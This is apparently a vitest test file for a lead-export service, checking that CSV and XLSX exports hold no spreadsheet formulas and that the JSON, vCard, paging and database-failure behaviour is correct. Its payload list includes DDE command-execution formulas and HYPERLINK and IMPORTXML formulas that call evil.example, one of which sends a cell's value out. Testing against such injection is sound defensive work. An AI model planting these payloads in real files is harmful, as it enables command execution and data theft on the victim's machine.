import { JSDOM } from 'jsdom';
import Papa from 'papaparse';
import { expect, test } from 'vitest';
import { openInLibreOffice } from './libreoffice.ts';
import {
  asBearer,
  choice,
  createRep,
  lead,
  push,
  queryAsOwner,
  signInByOAuth,
  signUp,
  startTestService,
} from './service.ts';
import { unzip } from './unzip.ts';

const service = await startTestService({ dailyCap: 10_000 });

/** Somebody with leads, and how to fetch their export as text. */
async function createExporter() {
  const { access_token } = await signInByOAuth(service, (await signUp(service)).cookie);
  const rep = asBearer(service, access_token);
  await rep('POST', '/v1/consents', { choices: [choice('push-to-crm')] });
  const read = (query: string) =>
    fetch(`${service.url}/v1/leads/export?${query}`, { headers: { authorization: `Bearer ${access_token}` } });
  return { rep, read, text: async (query: string) => (await read(query)).text() };
}

const formulas = [
  '=1+1',
  '+1',
  '-1',
  '@SUM(1)',
  "=cmd|'/C calc'!A0",
  '  =1+1',
  '\t=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '"=1+1"',
  '\uff1d1+1',
  '\uff0b1',
  '\uff0d1',
  '\uff20SUM(1)',
  '|calc',
  '%0A=1',
  'x;=1+1',
  'x\n=1+1',
  'x\r\n=1+1',
  'x\t=1+1',
  'x";=HYPERLINK("http://evil.example","x")&"',
  '=HYPERLINK("http://evil.example/?"&A1,"Open")',
  '=IMPORTXML("http://evil.example","//a")',
  '=DDE("cmd";"/C calc";"x")',
];
/** Every cell, under each rule for where one ends that a spreadsheet may follow. */
const cellsOf = (csv: string) =>
  [',', ';', '\t'].flatMap((delimiter) => Papa.parse<string[]>(csv.replace(/^\ufeff/, ''), { delimiter }).data.flat());

test('no cell of the CSV is a formula, whatever people call themselves, and whatever ends a cell', async () => {
  const { rep, text } = await createExporter();
  const answered = await push(
    rep,
    formulas.map((shown, i) =>
      lead([`vanity:f${i}`], { name: { shown, family: shown }, headline: shown, company: shown }),
    ),
  );
  expect(answered.body.results.map(({ status }: { status: string }) => status)).toEqual(formulas.map(() => 'created'));
  const csv = await text('format=csv');
  const dangerous = cellsOf(csv).filter((cell) => /^[\s\p{C}"]*[=+\-@|%\uff1d\uff0b\uff0d\uff20]/u.test(cell));
  console.log(`C11 CSV formulas: ${formulas.length * 4 - dangerous.length} of ${formulas.length * 4} survived`);
  expect(dangerous).toEqual([]);
  // A proper reader gets every text back: what was put in goes by taking out the apostrophes before signs.
  const names = Papa.parse<Record<string, string>>(csv, { header: true, skipEmptyLines: true }).data.map((row) =>
    row.Name?.replace(/'(?=[=+\-@|%\uff1d\uff0b\uff0d\uff20])/gu, ''),
  );
  expect(names.sort()).toEqual(formulas.toSorted());
});

test('LibreOffice finds no formula in the CSV, and every text (where it is not installed the check above stands alone)', async () => {
  const { rep, text } = await createExporter();
  await push(
    rep,
    formulas.map((shown, i) => lead([`vanity:o${i}`], { name: { shown }, headline: shown })),
  );
  const opened = await openInLibreOffice(await text('format=csv'));
  if (!opened) console.log('C11 LibreOffice: not installed here, so only the strict reader has judged');
  else {
    const cells = opened.match(/<table:table-cell[^>]*>/g) ?? [];
    const bad = cells.filter((cell) => cell.includes('table:formula'));
    console.log(`C11 opened with LibreOffice: ${cells.length - bad.length} of ${cells.length} survived`);
    expect(cells.length).toBeGreaterThan(formulas.length);
    expect(bad).toEqual([]);
  }
});

test('exports hold what the list holds, in each format, and obey its filters', async () => {
  const { rep, read, text } = await createExporter();
  const name = { shown: 'Ødegård, Åse; "Å"', given: 'Åse', family: 'Ødegård', nickname: 'Å', suffix: 'PhD' };
  const company = lead(['company:quay-as'], {
    kind: 'company',
    name: { shown: 'Quay AS' },
    headline: undefined,
    size: '11–50',
  });
  await push(rep, [
    lead(['vanity:åse-ø', 'urn:42'], {
      name,
      headline: 'One\nTwo',
      position: 'Chief',
      company: 'Quay',
      location: 'Tromsø, Norway',
    }),
    company,
  ]);
  const listed = (await rep('GET', '/v1/leads')).body.leads;
  expect(JSON.parse(await text('format=json'))).toEqual({ leads: listed });
  expect(JSON.parse(await text('format=json&q=nobody'))).toEqual({ leads: [] });
  const rows = Papa.parse<Record<string, string>>(await text('format=csv&q=norway'), {
    header: true,
    skipEmptyLines: true,
  }).data;
  expect(rows).toMatchObject([
    {
      Name: name.shown,
      'Family name': 'Ødegård',
      Headline: 'One\nTwo',
      'Profile URL': `https://www.linkedin.com/in/${encodeURIComponent('åse-ø')}/`,
      Kind: 'person',
    },
  ]);
  const card = (await text('format=vcf&q=norway')).replaceAll('\r\n ', '');
  expect(card.split('\r\n')).toEqual(
    expect.arrayContaining([
      'BEGIN:VCARD',
      'FN:Ødegård\\, Åse\\; "Å"',
      'N:Ødegård;Åse;;;PhD',
      'NICKNAME:Å',
      'TITLE:Chief',
      'ORG:Quay',
      'LABEL;TYPE=work:Tromsø\\, Norway',
      'NOTE:One\\nTwo',
      'END:VCARD',
    ]),
  );
  expect((await text('format=vcf')).match(/BEGIN:VCARD/g)).toHaveLength(2);
  for (const line of (await text('format=vcf')).split('\r\n')) expect(Buffer.byteLength(line)).toBeLessThanOrEqual(75);
  const { headers } = await read('format=csv');
  expect(headers.get('content-disposition')).toMatch(/^attachment; filename="leads-\d{4}-\d\d-\d\d\.csv"$/);
  expect(headers.get('content-type')).toMatch(/^text\/csv/);
  for (const query of ['', 'format=xls', 'format=csv&limit=3']) expect((await read(query)).status).toBe(422);
});

/** The rows of the sheet: what each cell says, and of what kind it is. */
function rowsOf(workbook: Buffer): { text: string; kind: string }[][] {
  const sheet = new JSDOM(unzip(workbook).get('xl/worksheets/sheet1.xml') ?? '', { contentType: 'application/xml' });
  return [...sheet.window.document.getElementsByTagName('row')].map((row) =>
    [...row.children].map((cell) => ({
      text: cell.textContent ?? '',
      kind: cell.getElementsByTagName('f').length > 0 ? 'formula' : (cell.getAttribute('t') ?? 'number'),
    })),
  );
}

test('a workbook holds every text as it is, and no formula; numbers are numbers', async () => {
  const { rep, read } = await createExporter();
  const texts = [
    ...formulas,
    '_x0041_ & <b>',
    'a\u0000b'.replace('\u0000', '\u0001'),
    'two\nlines',
    '  blanks  ',
    '船 🚢',
  ];
  const pushed = await push(
    rep,
    texts.map((shown, i) => lead([`vanity:w${i}`], { name: { shown }, headline: shown, degree: 2 })),
  );
  const taken = texts.filter((_, i) => pushed.body.results[i].status === 'created');
  const response = await read('format=xlsx');
  expect(response.headers.get('content-disposition')).toMatch(/\.xlsx"$/);
  const workbook = Buffer.from(await response.arrayBuffer());
  const [head, ...rows] = rowsOf(workbook);
  const column = (name: string) => head?.findIndex(({ text }) => text === name) ?? -1;
  const said = rows.map((cells) =>
    cells[column('Headline')]?.text.replaceAll('_x000D_', '\r').replaceAll('_x005F_', '_'),
  );
  const kept = (await rep('GET', '/v1/leads?limit=100')).body.leads.map(({ headline }: { headline: string }) =>
    headline.replaceAll('\u0001', '\ufffd'),
  );
  expect(said.toSorted()).toEqual(kept.toSorted());
  expect(rows).toHaveLength(taken.length);
  const cells = rows.flat();
  const bad = cells.filter(({ kind }) => kind === 'formula');
  console.log(`C11 XLSX formulas: ${cells.length - bad.length} of ${cells.length} survived`);
  expect(bad).toEqual([]);
  expect(new Set(rows.map((row) => row[column('Degree')]?.kind))).toEqual(new Set(['number']));
  const opened = await openInLibreOffice(workbook, 'xlsx');
  if (opened) expect(opened.match(/table:formula/g)).toBeNull();
  expect((await rowsIn(read('format=xlsx&q=nobody'))).length).toBe(1); // the headings
});

const rowsIn = async (response: Promise<Response>) => rowsOf(Buffer.from(await (await response).arrayBuffer()));

test('an export of many pages is whole, holds nobody twice, and no connection of the database while it is read slowly', async () => {
  const { rep, read, text } = await createExporter();
  const ids = new Set<string>();
  for (let batch = 0; batch < 4; batch++) {
    const { body } = await push(
      rep,
      Array.from({ length: 400 }, (_, i) => lead([`vanity:many-${batch}-${i}`], { headline: 'x'.repeat(900) })),
    );
    for (const { id } of body.results) ids.add(id);
  }
  const readers = await Promise.all(Array.from({ length: 12 }, () => read('format=json')));
  expect((await rep('GET', '/v1/leads?limit=1')).status).toBe(200); // with all twelve begun and none read
  for (const reader of readers.slice(1)) await reader.body?.cancel();
  const { leads } = (await (readers[0] as Response).json()) as { leads: { id: string }[] };
  expect(leads).toHaveLength(1600);
  expect(new Set(leads.map(({ id }) => id))).toEqual(ids);
  expect((await text('format=csv')).trimEnd().split('\r\n')).toHaveLength(1601);
  expect(rowsOf(Buffer.from(await (await read('format=xlsx')).arrayBuffer()))).toHaveLength(1601);
});

test('an export whose database goes away breaks off: it is never taken for whole', async () => {
  const own = await startTestService({ dailyCap: 10_000 });
  const rep = await createRep(own);
  for (let batch = 0; batch < 8; batch++)
    await push(
      rep,
      Array.from({ length: 500 }, (_, i) => lead([`vanity:gone-${batch}-${i}`], { headline: 'x'.repeat(1000) })),
    );
  const database = new URL(own.databaseUrl).pathname.slice(1);
  const elsewhere = { ...service };
  const broken = rep('GET', '/v1/leads/export?format=json');
  const cut = async () => {
    await queryAsOwner(elsewhere, `ALTER DATABASE ${database} CONNECTION LIMIT 0`);
    await queryAsOwner(
      elsewhere,
      `SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE datname = '${database}'`,
    );
  };
  const [said] = await Promise.allSettled([broken, cut()]);
  // Cut before it began it is a 503, cut in between the connection breaks; whole it may be, half with an end it is not.
  if (said.status === 'fulfilled' && said.value.status === 200) expect(said.value.body.leads).toHaveLength(4000);
  else if (said.status === 'fulfilled') expect(said.value.status).toBe(503);
  await queryAsOwner(elsewhere, `ALTER DATABASE ${database} CONNECTION LIMIT -1`);
  expect((await rep('GET', '/v1/leads/export?format=json')).body.leads).toHaveLength(4000);
});
